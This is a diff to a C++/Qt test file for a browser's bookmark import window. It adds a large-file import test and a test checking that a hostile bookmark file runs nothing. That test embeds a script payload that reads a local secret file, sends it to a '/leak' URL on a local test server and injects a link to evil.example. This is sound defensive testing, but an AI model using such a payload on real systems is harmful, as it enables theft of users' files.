@@ -1,5 +1,6 @@
-// The import and export window's import through the compatibility engine's module: the messages,
-// who is told to rebuild, and a manager that shows what was imported from it.
+// The import and export window's import: the messages, who is told to rebuild, a manager that
+// shows what was imported from it, a hostile file, and a large file imported off the UI thread.
+#include "common/AnsiCodec.h"
 #include "common/Messages.h"
 #include "support/ModalAnswerer.h"
 #include "favorites/BookmarkFile.h"
@@ -9,6 +10,7 @@
 #include "favorites/FormManageFav.h"
 #include "support/EngineTestMain.h"
 #include "support/TestDb.h"
+#include "support/TestServer.h"
 
 #include <QSignalSpy>
 
@@ -31,6 +33,18 @@ QString ExportedFile(const QString& folder) {
     favorites.AddFavorite("B", "http://b/", "2");
     const QString file = folder + QStringLiteral("/bookmarks.html");
     return ExportFavorites(favorites, file) ? file : QString();
+}
+
+QString WriteFile(const QString& path, const QByteArray& bytes) {
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size() ? path : QString();
+}
+
+// The window, with the open dialog answering the file.
+TFormImportExportFav* WindowFor(TFavorites& favorites, QObject* notify, const QString& file) {
+    TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, notify);
+    window->SetOpenFileChooser([file](QWidget*) { return file; });
+    return window;
 }
 
 } // namespace
@@ -69,11 +83,9 @@ private slots:
     void failedImportKeepsTheWindow() {
         TTestDb data;
         TFavorites favorites(data.Db());
-        const QString file = data.DirPath() + QStringLiteral("/empty.html");
-        QFile(file).open(QIODevice::WriteOnly);
+        const QString file = WriteFile(data.DirPath() + QStringLiteral("/empty.html"), {});
         TMessageSink mainWindow;
-        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, &mainWindow);
-        window->SetOpenFileChooser([file](QWidget*) { return file; });
+        TFormImportExportFav* window = WindowFor(favorites, &mainWindow, file);
         QSignalSpy finished(window, &TFormImportExportFav::importFinished);
         TModalAnswerer driver;
         window->ImportClick();
@@ -103,6 +115,70 @@ private slots:
         QVERIFY(finished.wait(20000));
         QTRY_COMPARE(manager.Model()->rowCount(), 2);
         QVERIFY(manager.Changed());
+    }
+
+    // A shared bookmark file is data: its script must not read the user's files, reach a server or
+    // write links of its own, and its images are not fetched.
+    void hostileFileRunsNothingAndLoadsNothing() {
+        TTestDb data;
+        TFavorites favorites(data.Db());
+        TTestServer server;
+        QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
+        const QString secret = WriteFile(data.DirPath() + QStringLiteral("/secret.txt"), "the user's secret");
+        QVERIFY(QFile::setPermissions(secret, QFile::ReadOwner | QFile::WriteOwner));
+        const QString script =
+            QStringLiteral(
+                "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
+                "new Image().src = '%2?' + encodeURIComponent(x.responseText);"
+                "document.write('<DT><A HREF=\"http://evil.example/\" FAV_POS=\"1\" >evil</A>');</script>")
+                .arg(QUrl::fromLocalFile(secret).toString(), server.Url("/leak"));
+        const QString file = WriteFile(data.DirPath() + QStringLiteral("/bookmarks.html"),
+                                       "<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n"
+                                       "<DT><A HREF=\"http://a/\" FAV_POS=\"1\" >A</A>\r\n" +
+                                           script.toUtf8() + "<img src=\"" + server.Url("/img").toUtf8() +
+                                           "\">\r\n</DL><p>\r\n");
+        TFormImportExportFav* window = WindowFor(favorites, nullptr, file);
+        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
+        TModalAnswerer driver;
+        window->ImportClick();
+        QVERIFY(finished.wait(20000));
+        QVERIFY(server.Stats().isEmpty());
+        QVERIFY(favorites.LoadFavorites());
+        QCOMPARE(favorites.Items.size(), 1);
+        QCOMPARE(favorites.Items.at(0).FavUrl, QStringLiteral("http://a/"));
+    }
+
+    // 10,000 favorites are read, parsed and stored while the UI thread is busy elsewhere and never
+    // returns to its event loop; the window then reports the import as usual.
+    void largeFileImportsOffTheUiThread() {
+        TTestDb data;
+        TFavorites favorites(data.Db());
+        constexpr int kCount = 10000;
+        QByteArray bytes = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n";
+        for (int i = 0; i < kCount; ++i)
+            bytes += ToAnsi(
+                QStringLiteral("<DT><A HREF=\"http://s%1.example/新闻\" FAV_POS=\"%1\" >收藏 %1 😀</A>\r\n")
+                    .arg(i));
+        bytes += "</DL><p>\r\n";
+        TFormImportExportFav* window =
+            WindowFor(favorites, nullptr, WriteFile(data.DirPath() + QStringLiteral("/large.html"), bytes));
+        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
+        TModalAnswerer driver;
+        window->ImportClick();
+        const auto stored = [&data] {
+            auto table = data.Db().Query(QStringLiteral("SELECT COUNT(*) AS n FROM qb_fav"));
+            return table ? table->FieldAsInt64(QStringLiteral("n")) : -1;
+        };
+        QElapsedTimer bound;
+        bound.start();
+        while (stored() < kCount && bound.elapsed() < 120000)
+            QThread::msleep(20);
+        QCOMPARE(stored(), qint64(kCount));
+        QVERIFY(finished.wait(20000));
+        QCOMPARE(driver.Messages, QStringList{QStringLiteral("收藏夹导入成功！")});
+        QVERIFY(favorites.LoadFavorites());
+        QCOMPARE(favorites.Items.at(kCount - 1).FavName, QStringLiteral("收藏 9999 😀"));
+        QCOMPARE(favorites.Items.at(kCount - 1).FavUrl, QStringLiteral("http://s9999.example/新闻"));
     }
 
     void manageLabelAsksTheMainWindow() {
